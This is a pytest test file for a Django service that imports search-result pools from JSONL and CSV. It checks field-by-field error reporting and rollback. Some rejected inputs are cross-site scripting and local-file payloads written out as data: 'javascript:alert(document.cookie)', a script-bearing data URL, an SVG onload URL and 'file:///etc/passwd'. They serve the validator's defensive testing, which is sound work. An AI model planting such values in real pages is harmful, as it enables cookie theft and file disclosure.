"""Pool import (DESIGN.md, "Pool import formats"): JSONL and CSV through the upload service and the job.

Every bad file is described line by line (and field by field) in the job's errors and leaves
the pool exactly as it was; good files are stored field for field, verbatim.
"""

import json
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from evalconsole import jobs
from evalconsole.errors import Conflict
from evalconsole.models import Job
from projects import services
from projects.models import EvaluationProject, PoolResult, PoolSerp
from tests.projects.conftest import pool_state

DROP = object()
SERP_FIELDS = "query_id, query, locale, category, traffic, variant, results"
RESULT_FIELDS = "rank, doc_id, title, url, snippet, media_type, thumbnail_url, sensitive"
COLUMNS = (
    "query_id, query, locale, category, traffic, variant, rank, doc_id, title, url, snippet, media_type, "
    "thumbnail_url, sensitive"
)
NOT_A_LOCALE = "is not a locale tag like it-IT, pt-BR or zh-Hant-TW"
ONLY_HTTP = "only http and https links are allowed, got"
CSV_HEADER = "query_id,query,locale,rank,doc_id,url"


def result(n: int = 1, **changes) -> dict:
    """The result at rank n; `changes` replace fields (DROP removes one)."""
    item = {"rank": n, "doc_id": f"v-{n}", "title": f"Video {n}", "url": f"https://video.example/v-{n}"}
    item.update(changes)
    return {name: value for name, value in item.items() if value is not DROP}


def serp(query_id: str = "q-100", results=None, **changes) -> dict:
    record = {
        "query_id": query_id,
        "query": "pasta carbonara",
        "locale": "it-IT",
        "category": "food",
        "traffic": 1200,
        "results": [result(1), result(2)] if results is None else results,
    }
    record.update(changes)
    return {name: value for name, value in record.items() if value is not DROP}


def jsonl(*records) -> bytes:
    return "".join(json.dumps(record, ensure_ascii=False) + "\n" for record in records).encode()


def csv_file(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def row(query_id="q-100", rank=1, *, query="pasta", locale="it-IT", doc_id=None, url=None) -> str:
    """A CSV row under CSV_HEADER."""
    doc_id = doc_id or f"v-{rank}"
    return f"{query_id},{query},{locale},{rank},{doc_id},{url or f'https://video.example/{doc_id}'}"


def error(line, field, message) -> dict:
    return {"line": line, "field": field, "message": message}


def jsonl_case(data, expected, *, id):
    return pytest.param("pool.jsonl", data, expected, id=id)


def csv_case(data, expected, *, id):
    return pytest.param("pool.csv", data, expected, id=id)


GOOD_LINE = json.dumps(serp("q-100"))

BAD_FILES = [
    # --- the file as a whole
    jsonl_case(
        b'{"query_id": "q-100", "query": "caf\xe9", "locale": "it-IT", '
        b'"results": [{"rank": 1, "doc_id": "v-1", "url": "https://video.example/v-1"}]}\n',
        [error(1, None, "not valid UTF-8: byte 0xe9 at column 36")],
        id="jsonl-latin-1-byte",
    ),
    jsonl_case(
        json.dumps([serp("q-100"), serp("q-101")]).encode(),
        [error(1, None, "the file is a JSON array; give one SERP object per line (JSONL)")],
        id="jsonl-json-array",
    ),
    jsonl_case(
        (GOOD_LINE + '\n{"query_id": "q-101", "query": "pas').encode(),
        [error(2, None, "not valid JSON: Unterminated string starting at (column 32)")],
        id="jsonl-truncated-last-line",
    ),
    jsonl_case(
        (GOOD_LINE + "\n{'query_id': 'q-101'}\n").encode(),
        [error(2, None, "not valid JSON: Expecting property name enclosed in double quotes (column 2)")],
        id="jsonl-python-dict-not-json",
    ),
    jsonl_case(
        (GOOD_LINE + "\n42\n").encode(),
        [error(2, None, "each line must be one SERP as a JSON object, got 42")],
        id="jsonl-number-line",
    ),
    jsonl_case(
        (GOOD_LINE + '\n["q-101", "pasta"]\n').encode(),
        [error(2, None, "each line must be one SERP as a JSON object, got a list")],
        id="jsonl-list-line",
    ),
    jsonl_case(b"\n\n  \n", [error(None, None, "the file is empty")], id="jsonl-only-blank-lines"),
    jsonl_case(b"\xef\xbb\xbf", [error(None, None, "the file is empty")], id="jsonl-only-a-bom"),
    # --- SERP fields
    jsonl_case(
        jsonl(serp(lang="it")),
        [error(1, "lang", f"unknown field; a SERP has {SERP_FIELDS}")],
        id="jsonl-unknown-serp-field",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, score=0.9)])),
        [error(1, "results[0].score", f"unknown field; a result has {RESULT_FIELDS}")],
        id="jsonl-unknown-result-field",
    ),
    jsonl_case(jsonl(serp(query_id=DROP)), [error(1, "query_id", "is required")], id="jsonl-missing-query-id"),
    jsonl_case(jsonl(serp(query=DROP)), [error(1, "query", "is required")], id="jsonl-missing-query"),
    jsonl_case(jsonl(serp(locale=DROP)), [error(1, "locale", "is required")], id="jsonl-missing-locale"),
    jsonl_case(jsonl(serp(results=DROP)), [error(1, "results", "is required")], id="jsonl-missing-results"),
    jsonl_case(jsonl(serp(query="   ")), [error(1, "query", "must not be empty")], id="jsonl-blank-query"),
    jsonl_case(jsonl(serp(query_id=100)), [error(1, "query_id", "must be text, got 100")], id="jsonl-numeric-query-id"),
    jsonl_case(
        jsonl(serp(query="pa\x00sta")), [error(1, "query", "contains a NUL character")], id="jsonl-nul-in-query"
    ),
    jsonl_case(
        jsonl(serp(query="x" * 1001)),
        [error(1, "query", "is 1001 characters long; at most 1000 are allowed")],
        id="jsonl-query-too-long",
    ),
    jsonl_case(
        jsonl(serp(locale="it_IT")), [error(1, "locale", f'"it_IT" {NOT_A_LOCALE}')], id="jsonl-underscore-locale"
    ),
    jsonl_case(
        jsonl(serp(locale="italian")), [error(1, "locale", f'"italian" {NOT_A_LOCALE}')], id="jsonl-locale-as-a-word"
    ),
    jsonl_case(
        jsonl(serp(locale="fr-FR")),
        [error(1, "locale", '"fr-FR" is not one of this project\'s locales (it-IT, de-DE)')],
        id="jsonl-locale-not-in-the-project",
    ),
    jsonl_case(
        jsonl(serp(traffic=-5)), [error(1, "traffic", "must not be negative, got -5")], id="jsonl-negative-traffic"
    ),
    jsonl_case(
        jsonl(serp(traffic="12")), [error(1, "traffic", 'must be a number, got "12"')], id="jsonl-traffic-as-text"
    ),
    jsonl_case(
        jsonl(serp(traffic=float("nan"))), [error(1, "traffic", "must be a finite number")], id="jsonl-nan-traffic"
    ),
    jsonl_case(
        jsonl(serp(traffic=float("inf"))),
        [error(1, "traffic", "must be a finite number")],
        id="jsonl-infinite-traffic",
    ),
    # --- the results list
    jsonl_case(jsonl(serp(results=[])), [error(1, "results", "must not be empty")], id="jsonl-no-results"),
    jsonl_case(
        jsonl(serp(results="v-1, v-2")),
        [error(1, "results", 'must be a list of results, got "v-1, v-2"')],
        id="jsonl-results-as-text",
    ),
    jsonl_case(
        jsonl(serp(results=[result(rank) for rank in range(1, 102)])),
        [error(1, "results", "has 101 results; at most 100 are allowed")],
        id="jsonl-too-many-results",
    ),
    jsonl_case(
        jsonl(serp(results=["v-1"])),
        [error(1, "results[0]", 'each result must be a JSON object, got "v-1"')],
        id="jsonl-result-not-an-object",
    ),
    # --- result fields
    jsonl_case(
        jsonl(serp(results=[result(1, rank="1")])),
        [error(1, "results[0].rank", 'must be a whole number, got "1"')],
        id="jsonl-rank-as-text",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, rank=1.5)])),
        [error(1, "results[0].rank", "must be a whole number, got 1.5")],
        id="jsonl-fractional-rank",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, rank=DROP)])), [error(1, "results[0].rank", "is required")], id="jsonl-no-rank"
    ),
    jsonl_case(
        jsonl(serp(results=[result(0)])),
        [
            error(1, "results[0].rank", "must be from 1 to 100, got 0"),
            error(1, "results", "ranks must run from 1 to 1 without gaps; 1 is missing"),
        ],
        id="jsonl-rank-zero",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1), result(3)])),
        [error(1, "results", "ranks must run from 1 to 2 without gaps; 2 is missing")],
        id="jsonl-rank-gap",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1), result(1, doc_id="v-2")])),
        [error(1, "results[1].rank", "rank 1 appears twice")],
        id="jsonl-duplicate-rank",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1), result(2, doc_id="v-1")])),
        [error(1, "results[1].doc_id", '"v-1" is already at rank 1')],
        id="jsonl-duplicate-doc",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, doc_id="")])),
        [error(1, "results[0].doc_id", "must not be empty")],
        id="jsonl-empty-doc-id",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="javascript:alert(document.cookie)")])),
        [error(1, "results[0].url", f'{ONLY_HTTP} "javascript:"')],
        id="jsonl-javascript-url",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="JaVaScRiPt:alert(1)")])),
        [error(1, "results[0].url", f'{ONLY_HTTP} "javascript:"')],
        id="jsonl-mixed-case-javascript-url",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="java\tscript:alert(1)")])),
        [error(1, "results[0].url", "must not contain spaces or control characters")],
        id="jsonl-javascript-url-split-by-a-tab",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="data:text/html,<script>alert(1)</script>")])),
        [error(1, "results[0].url", f'{ONLY_HTTP} "data:"')],
        id="jsonl-data-url",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="file:///etc/passwd")])),
        [error(1, "results[0].url", f'{ONLY_HTTP} "file:"')],
        id="jsonl-file-url",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="ftp://files.example/v-1")])),
        [error(1, "results[0].url", f'{ONLY_HTTP} "ftp:"')],
        id="jsonl-ftp-url",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="video.example/v-1")])),
        [error(1, "results[0].url", f"{ONLY_HTTP} no scheme")],
        id="jsonl-url-without-scheme",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="https://video.example/pasta carbonara")])),
        [error(1, "results[0].url", "must not contain spaces or control characters")],
        id="jsonl-url-with-a-space",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="https:///v-1")])),
        [error(1, "results[0].url", "has no host name")],
        id="jsonl-url-without-host",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url=DROP)])), [error(1, "results[0].url", "is required")], id="jsonl-no-url"
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, thumbnail_url="javascript:alert(1)")])),
        [error(1, "results[0].thumbnail_url", f'{ONLY_HTTP} "javascript:"')],
        id="jsonl-javascript-thumbnail",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, title="t" * 501)])),
        [error(1, "results[0].title", "is 501 characters long; at most 500 are allowed")],
        id="jsonl-title-too-long",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, snippet="s" * 2001)])),
        [error(1, "results[0].snippet", "is 2001 characters long; at most 2000 are allowed")],
        id="jsonl-snippet-too-long",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, url="https://video.example/" + "v" * 2027)])),
        [error(1, "results[0].url", "is 2049 characters long; at most 2048 are allowed")],
        id="jsonl-url-too-long",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, doc_id="d" * 201)])),
        [error(1, "results[0].doc_id", "is 201 characters long; at most 200 are allowed")],
        id="jsonl-doc-id-too-long",
    ),
    jsonl_case(
        jsonl(serp(category="c" * 101)),
        [error(1, "category", "is 101 characters long; at most 100 are allowed")],
        id="jsonl-category-too-long",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, title=42)])),
        [error(1, "results[0].title", "must be text, got 42")],
        id="jsonl-numeric-title",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, media_type="Video clip")])),
        [error(1, "results[0].media_type", '"Video clip" is not a media type like video or image')],
        id="jsonl-bad-media-type",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, sensitive="yes")])),
        [error(1, "results[0].sensitive", 'must be true or false, got "yes"')],
        id="jsonl-sensitive-as-text",
    ),
    jsonl_case(
        jsonl(serp(results=[result(1, sensitive=1)])),
        [error(1, "results[0].sensitive", "must be true or false, got 1")],
        id="jsonl-sensitive-as-a-number",
    ),
    # --- across lines and against the pool
    jsonl_case(
        jsonl(serp("q-100"), serp("q-101"), serp("q-100")),
        [error(3, "query_id", 'query_id "q-100" is already at line 1')],
        id="jsonl-query-id-twice",
    ),
    jsonl_case(
        jsonl(serp("q-100"), serp("q-001")),
        [error(2, "query_id", 'query_id "q-001" is already in the pool')],
        id="jsonl-query-id-already-in-the-pool",
    ),
    jsonl_case(
        jsonl(serp("q-100", locale="fr-FR"), serp("q-101", traffic=-1), serp("q-102", results=[result(2)])),
        [
            error(1, "locale", '"fr-FR" is not one of this project\'s locales (it-IT, de-DE)'),
            error(2, "traffic", "must not be negative, got -1"),
            error(3, "results", "ranks must run from 1 to 1 without gaps; 1 is missing"),
        ],
        id="jsonl-every-bad-line-is-reported",
    ),
    # --- CSV: the header
    csv_case(
        csv_file("query_id,query,locale,rank,doc_id", "q-100,pasta,it-IT,1,v-1"),
        [error(1, "url", "missing column")],
        id="csv-missing-column",
    ),
    csv_case(
        csv_file("query_id,query,rank,doc_id", "q-100,pasta,1,v-1"),
        [error(1, "locale", "missing column"), error(1, "url", "missing column")],
        id="csv-missing-two-columns",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",lang", row() + ",it"),
        [error(1, "lang", f"unknown column; the columns are {COLUMNS}")],
        id="csv-unknown-column",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",url", row() + ",https://video.example/v-1"),
        [error(1, "url", "this column appears twice")],
        id="csv-duplicate-column",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 2) + ",extra"),
        [error(3, None, "has 7 cells; the header has 6")],
        id="csv-row-with-too-many-cells",
    ),
    csv_case(
        csv_file(CSV_HEADER, "q-100,pasta,it-IT,1,v-1"),
        [error(2, None, "has 5 cells; the header has 6")],
        id="csv-row-with-too-few-cells",
    ),
    csv_case(
        csv_file(CSV_HEADER, 'q-100,"pasta,it-IT,1,v-1,https://video.example/v-1'),
        [error(2, None, "not valid CSV: unexpected end of data")],
        id="csv-unclosed-quote",
    ),
    csv_case(
        csv_file(CSV_HEADER).replace(b"\n", b"") + b"\nq-100,caf\xe9,it-IT,1,v-1,https://video.example/v-1\n",
        [error(2, None, "not valid UTF-8: byte 0xe9 at column 10")],
        id="csv-latin-1-byte",
    ),
    csv_case(csv_file(CSV_HEADER), [error(None, None, "the file is empty")], id="csv-header-only"),
    # --- CSV: rows of one SERP
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 2, query="pizza")),
        [error(3, "query", "differs from line 2 for the same query_id")],
        id="csv-query-differs-within-a-serp",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 2, locale="de-DE")),
        [error(3, "locale", "differs from line 2 for the same query_id")],
        id="csv-locale-differs-within-a-serp",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-101", 1), row("q-100", 1, doc_id="v-9")),
        [error(4, "query_id", 'query_id "q-100" is already at line 2; keep each SERP\'s rows together')],
        id="csv-rows-of-a-serp-apart",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 3)),
        [error(2, "rank", "ranks must run from 1 to 2 without gaps; 2 is missing")],
        id="csv-rank-gap",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 1, doc_id="v-2")),
        [error(3, "rank", "rank 1 appears twice")],
        id="csv-duplicate-rank",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1), row("q-100", 2, doc_id="v-1")),
        [error(3, "doc_id", '"v-1" is already at rank 1')],
        id="csv-duplicate-doc",
    ),
    csv_case(
        csv_file(CSV_HEADER, "q-100,pasta,it-IT,one,v-1,https://video.example/v-1"),
        [error(2, "rank", 'must be a whole number, got "one"')],
        id="csv-rank-as-a-word",
    ),
    csv_case(
        csv_file(CSV_HEADER, "q-100,,it-IT,1,v-1,https://video.example/v-1"),
        [error(2, "query", "must not be empty")],
        id="csv-empty-query",
    ),
    csv_case(
        csv_file(CSV_HEADER, "q-100,pasta,,1,v-1,https://video.example/v-1"),
        [error(2, "locale", "is required")],
        id="csv-empty-locale",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",traffic", row() + ",lots"),
        [error(2, "traffic", 'must be a number, got "lots"')],
        id="csv-traffic-as-a-word",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",traffic", row() + ",-3"),
        [error(2, "traffic", "must not be negative, got -3.0")],
        id="csv-negative-traffic",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",traffic", row() + ",NaN"),
        [error(2, "traffic", "must be a finite number")],
        id="csv-nan-traffic",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",sensitive", row() + ",maybe"),
        [error(2, "sensitive", 'must be true or false, got "maybe"')],
        id="csv-sensitive-maybe",
    ),
    csv_case(
        csv_file(CSV_HEADER, row(url="javascript:alert(1)")),
        [error(2, "url", f'{ONLY_HTTP} "javascript:"')],
        id="csv-javascript-url",
    ),
    csv_case(
        csv_file(CSV_HEADER + ",thumbnail_url", row() + ',"data:image/svg+xml,<svg/onload=alert(1)>"'),
        [error(2, "thumbnail_url", f'{ONLY_HTTP} "data:"')],
        id="csv-data-thumbnail",
    ),
    csv_case(
        csv_file(CSV_HEADER, *(row("q-100", rank) for rank in range(1, 102))),
        [
            error(102, "rank", "must be from 1 to 100, got 101"),
            error(2, None, "this SERP has 101 results; at most 100 are allowed"),
        ],
        id="csv-too-many-results",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-001", 1)),
        [error(2, "query_id", 'query_id "q-001" is already in the pool')],
        id="csv-query-id-already-in-the-pool",
    ),
]


@pytest.mark.parametrize(("name", "data", "expected"), BAD_FILES)
def test_a_bad_file_is_described_line_by_line_and_changes_nothing(seeded_project, import_file, name, data, expected):
    before = pool_state(seeded_project)

    job = import_file(seeded_project, data, name=name)

    assert (job.status, job.errors, job.result) == ("failed", expected, {"more_problems": False})
    assert pool_state(seeded_project) == before


def variant_serp(query_id: str, variant, **changes) -> dict:
    return serp(query_id, variant=variant, **changes)


BAD_SIDE_BY_SIDE_FILES = [
    jsonl_case(
        jsonl(variant_serp("q-100", DROP), variant_serp("q-100", "experiment")),
        [
            error(1, "variant", "is missing; this project compares baseline and experiment"),
            error(2, "variant", 'query_id "q-100" has variant "experiment" but not "baseline"'),
        ],
        id="jsonl-variant-missing",
    ),
    jsonl_case(
        jsonl(variant_serp("q-100", "treatment"), variant_serp("q-100", "experiment")),
        [
            error(1, "variant", 'is "treatment"; this project compares baseline and experiment'),
            error(2, "variant", 'query_id "q-100" has variant "experiment" but not "baseline"'),
        ],
        id="jsonl-unknown-variant",
    ),
    jsonl_case(
        jsonl(
            variant_serp("q-100", "baseline"),
            variant_serp("q-101", "baseline"),
            variant_serp("q-101", "experiment"),
        ),
        [error(1, "variant", 'query_id "q-100" has variant "baseline" but not "experiment"')],
        id="jsonl-query-missing-one-variant",
    ),
    jsonl_case(
        jsonl(variant_serp("q-100", "baseline"), variant_serp("q-100", "baseline")),
        [
            error(2, "query_id", 'query_id "q-100" (variant "baseline") is already at line 1'),
            error(1, "variant", 'query_id "q-100" has variant "baseline" but not "experiment"'),
        ],
        id="jsonl-one-variant-twice",
    ),
    jsonl_case(
        jsonl(variant_serp("q-001", "baseline"), variant_serp("q-001", "experiment")),
        [
            error(1, "query_id", 'query_id "q-001" (variant "baseline") is already in the pool'),
            error(2, "query_id", 'query_id "q-001" (variant "experiment") is already in the pool'),
        ],
        id="jsonl-pair-already-in-the-pool",
    ),
    csv_case(
        csv_file(CSV_HEADER, row("q-100", 1)),
        [error(2, "variant", "is missing; this project compares baseline and experiment")],
        id="csv-without-a-variant-column",
    ),
]


@pytest.mark.parametrize(("name", "data", "expected"), BAD_SIDE_BY_SIDE_FILES)
def test_a_bad_side_by_side_file_is_described_and_changes_nothing(
    seeded_sbs_project, import_file, name, data, expected
):
    before = pool_state(seeded_sbs_project)

    job = import_file(seeded_sbs_project, data, name=name)

    assert (job.status, job.errors) == ("failed", expected)
    assert pool_state(seeded_sbs_project) == before


def test_the_bad_input_table_covers_at_least_35_kinds():
    assert len(BAD_FILES) + len(BAD_SIDE_BY_SIDE_FILES) >= 35


# --- Refused at the upload -------------------------------------------------------------------


def upload(project, data: bytes, owner, name="pool.jsonl"):
    return services.pool_upload(project=project, file=SimpleUploadedFile(name, data), created_by=owner)


def test_a_file_over_the_size_limit_is_refused_before_any_job(seeded_project, owner, settings, private_media):
    settings.POOL_MAX_UPLOAD_BYTES = 100
    before = pool_state(seeded_project)

    with pytest.raises(ValidationError) as raised:
        upload(seeded_project, b"x" * 101, owner)

    assert raised.value.message_dict == {"file": ["The file is 101 bytes; the limit is 100 bytes."]}
    assert not Job.objects.exists()
    assert pool_state(seeded_project) == before


def test_the_size_limit_reads_in_megabytes_for_large_files(seeded_project, owner, settings, private_media):
    settings.POOL_MAX_UPLOAD_BYTES = 1024 * 1024

    with pytest.raises(ValidationError) as raised:
        upload(seeded_project, b"x" * (3 * 1024 * 1024 // 2), owner)

    assert raised.value.message_dict == {"file": ["The file is 1.5 MB; the limit is 1.0 MB."]}


def test_a_file_exactly_at_the_size_limit_is_accepted(project, import_file, settings):
    data = jsonl(serp("q-100"))
    settings.POOL_MAX_UPLOAD_BYTES = len(data)

    job = import_file(project, data)

    assert job.status == "succeeded"


def test_an_empty_file_is_refused_before_any_job(seeded_project, owner, private_media):
    with pytest.raises(ValidationError) as raised:
        upload(seeded_project, b"", owner)

    assert raised.value.message_dict == {"file": ["The file is empty."]}
    assert not Job.objects.exists()


def test_a_completed_project_takes_no_pool_file(seeded_project, owner, private_media):
    EvaluationProject.objects.filter(pk=seeded_project.pk).update(status="completed")
    seeded_project.refresh_from_db()

    with pytest.raises(Conflict) as raised:
        upload(seeded_project, jsonl(serp("q-100")), owner)

    assert raised.value.message == '"Pasta study" is completed; its pool no longer changes.'
    assert not Job.objects.exists()


# --- How many problems --------------------------------------------------------------------


def test_it_reports_at_most_100_problems_and_says_there_are_more(seeded_project, import_file):
    data = jsonl(*(serp(f"q-{n:03d}", query="") for n in range(100, 250)))
    before = pool_state(seeded_project)

    job = import_file(seeded_project, data)

    assert job.status == "failed"
    assert job.errors == [error(line, "query", "must not be empty") for line in range(1, 101)]
    assert job.result == {"more_problems": True}
    assert pool_state(seeded_project) == before


def test_exactly_100_problems_are_all_reported_with_nothing_more_to_say(seeded_project, import_file):
    data = jsonl(*(serp(f"q-{n:03d}", query="") for n in range(100, 200)))

    job = import_file(seeded_project, data)

    assert len(job.errors) == 100
    assert job.result == {"more_problems": False}


def test_one_bad_line_after_thousands_of_good_ones_keeps_nothing(seeded_project, import_file):
    """The writer has already sent earlier batches when the bad line comes: they roll back too."""
    good = [serp(f"q-{n:05d}", results=[result(1)]) for n in range(1000, 3100)]
    data = jsonl(*good, serp("q-99999", locale="xx_XX"))
    before = pool_state(seeded_project)

    job = import_file(seeded_project, data)

    assert job.errors == [error(2101, "locale", f'"xx_XX" {NOT_A_LOCALE}')]
    assert pool_state(seeded_project) == before


# --- Good files -----------------------------------------------------------------------------


def stored(project) -> list[dict]:
    """The pool as the project holds it, SERP by SERP with its results in rank order."""
    serps = PoolSerp.objects.filter(project=project).order_by("query_id", "variant").prefetch_related("results")
    return [
        {
            "query_id": s.query_id,
            "query": s.query,
            "locale": s.locale,
            "category": s.category,
            "traffic": s.traffic,
            "variant": s.variant,
            "results": [
                (r.rank, r.doc_id, r.title, r.url, r.snippet, r.media_type, r.thumbnail_url, r.sensitive)
                for r in s.results.all()
            ],
        }
        for s in serps
    ]


def test_a_jsonl_file_is_stored_field_by_field(project, import_file):
    data = jsonl(
        {
            "query_id": "q-001",
            "query": "pasta carbonara",
            "locale": "it-IT",
            "category": "food",
            "traffic": 1200,
            "variant": "",
            "results": [
                {
                    "rank": 1,
                    "doc_id": "v-123",
                    "title": "Carbonara in 60 seconds",
                    "url": "https://video.example/v-123",
                    "snippet": "Guanciale, pecorino, eggs.",
                    "media_type": "video",
                    "thumbnail_url": "https://img.example/v-123.jpg",
                    "sensitive": False,
                },
                {"rank": 2, "doc_id": "v-456", "url": "http://video.example/v-456", "sensitive": True},
                {"rank": 3, "doc_id": "v-789", "url": "https://video.example/v-789", "sensitive": None},
            ],
        },
        {
            "query_id": "q-002",
            "query": "Käsespätzle",
            "locale": "de-DE",
            "traffic": 12.5,
            "results": [{"url": "https://video.example/v-9", "doc_id": "v-9", "rank": 1, "title": "Spätzle 🧀"}],
        },
    )

    job = import_file(project, data)

    assert (job.status, job.errors, job.result) == ("succeeded", [], {"serps": 2, "results": 4})
    assert job.progress == 1.0
    assert stored(project) == [
        {
            "query_id": "q-001",
            "query": "pasta carbonara",
            "locale": "it-IT",
            "category": "food",
            "traffic": 1200.0,
            "variant": "",
            "results": [
                (
                    1,
                    "v-123",
                    "Carbonara in 60 seconds",
                    "https://video.example/v-123",
                    "Guanciale, pecorino, eggs.",
                    "video",
                    "https://img.example/v-123.jpg",
                    False,
                ),
                (2, "v-456", "", "http://video.example/v-456", "", "", "", True),
                (3, "v-789", "", "https://video.example/v-789", "", "", "", False),
            ],
        },
        {
            "query_id": "q-002",
            "query": "Käsespätzle",
            "locale": "de-DE",
            "category": "",
            "traffic": 12.5,
            "variant": "",
            "results": [(1, "v-9", "Spätzle 🧀", "https://video.example/v-9", "", "", "", False)],
        },
    ]
    assert set(PoolSerp.objects.values_list("import_job", flat=True)) == {job.pk}


def test_a_csv_file_is_stored_field_by_field(project, import_file):
    data = csv_file(
        "query_id,query,locale,category,traffic,variant,rank,doc_id,title,url,snippet,media_type,thumbnail_url,"
        "sensitive",
        'q-001,pasta carbonara,it-IT,food,1200,,1,v-123,"Carbonara, the Roman way",https://video.example/v-123,'
        '"Say ""cheese"", then eggs",video,https://img.example/v-123.jpg,true',
        "q-001,pasta carbonara,it-IT,food,1200,,2,v-456,,https://video.example/v-456,,,,1",
        "q-001,pasta carbonara,it-IT,food,1200,,3,v-789,,https://video.example/v-789,,,,yes",
        "q-001,pasta carbonara,it-IT,food,1200,,4,v-790,,https://video.example/v-790,,,,",
        "q-002,spätzle,de-DE,,,,1,v-9,,https://video.example/v-9,,,,false",
        "q-002,spätzle,de-DE,,,,2,v-10,,https://video.example/v-10,,,,0",
        "q-002,spätzle,de-DE,,,,3,v-11,,https://video.example/v-11,,,,No",
        "q-002,spätzle,de-DE,,,,4,v-12,,https://video.example/v-12,,,,TRUE",
    )

    job = import_file(project, data, name="pool.csv")

    assert (job.status, job.errors, job.result) == ("succeeded", [], {"serps": 2, "results": 8})
    assert stored(project) == [
        {
            "query_id": "q-001",
            "query": "pasta carbonara",
            "locale": "it-IT",
            "category": "food",
            "traffic": 1200.0,
            "variant": "",
            "results": [
                (
                    1,
                    "v-123",
                    "Carbonara, the Roman way",
                    "https://video.example/v-123",
                    'Say "cheese", then eggs',
                    "video",
                    "https://img.example/v-123.jpg",
                    True,
                ),
                (2, "v-456", "", "https://video.example/v-456", "", "", "", True),
                (3, "v-789", "", "https://video.example/v-789", "", "", "", True),
                (4, "v-790", "", "https://video.example/v-790", "", "", "", False),
            ],
        },
        {
            "query_id": "q-002",
            "query": "spätzle",
            "locale": "de-DE",
            "category": "",
            "traffic": 0.0,
            "variant": "",
            "results": [
                (1, "v-9", "", "https://video.example/v-9", "", "", "", False),
                (2, "v-10", "", "https://video.example/v-10", "", "", "", False),
                (3, "v-11", "", "https://video.example/v-11", "", "", "", False),
                (4, "v-12", "", "https://video.example/v-12", "", "", "", True),
            ],
        },
    ]


def test_csv_columns_may_come_in_any_order_and_rows_in_any_rank_order(project, import_file):
    data = csv_file(
        "url,doc_id,rank,locale,query,query_id,traffic",
        "https://video.example/b,v-b,2,it-IT,pasta,q-001,1.5e3",
        "https://video.example/a,v-a,1,it-IT,pasta,q-001,1.5e3",
    )

    job = import_file(project, data, name="pool.csv")

    assert job.status == "succeeded", job.errors
    [only] = stored(project)
    assert only["traffic"] == 1500.0
    assert [(rank, doc_id) for rank, doc_id, *_ in only["results"]] == [(1, "v-a"), (2, "v-b")]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param("pool.jsonl", b"\xef\xbb\xbf" + jsonl(serp("q-100"), serp("q-101")), id="jsonl-with-bom"),
        pytest.param("pool.jsonl", jsonl(serp("q-100"), serp("q-101")).replace(b"\n", b"\r\n"), id="jsonl-crlf"),
        pytest.param(
            "pool.jsonl",
            b"\n" + jsonl(serp("q-100")) + b"\n  \n" + jsonl(serp("q-101")) + b"\n\n",
            id="jsonl-blank-lines",
        ),  # fmt: skip
        pytest.param("pool.jsonl", jsonl(serp("q-100"), serp("q-101")).rstrip(b"\n"), id="jsonl-no-final-newline"),
        pytest.param("pool.csv", b"\xef\xbb\xbf" + csv_file(CSV_HEADER, row("q-100"), row("q-101")), id="csv-with-bom"),
        pytest.param(
            "pool.csv", csv_file(CSV_HEADER, row("q-100"), row("q-101")).replace(b"\n", b"\r\n"), id="csv-crlf"
        ),  # fmt: skip
        pytest.param("pool.csv", csv_file(CSV_HEADER, "", row("q-100"), "", row("q-101"), ""), id="csv-blank-lines"),
        pytest.param("upload", jsonl(serp("q-100"), serp("q-101")), id="jsonl-recognised-without-extension"),
        pytest.param("upload", csv_file(CSV_HEADER, row("q-100"), row("q-101")), id="csv-recognised-without-extension"),
    ],
)
def test_harmless_differences_in_layout_import_cleanly(project, import_file, name, data):
    job = import_file(project, data, name=name)

    assert (job.status, job.errors) == ("succeeded", [])
    assert [s["query_id"] for s in stored(project)] == ["q-100", "q-101"]
    assert all(s["locale"] == "it-IT" for s in stored(project))


def test_a_quoted_csv_snippet_keeps_its_commas(project, import_file):
    data = csv_file(CSV_HEADER + ",snippet", row() + ',"Guanciale, pecorino, pepper."')

    job = import_file(project, data, name="pool.csv")

    assert job.status == "succeeded", job.errors
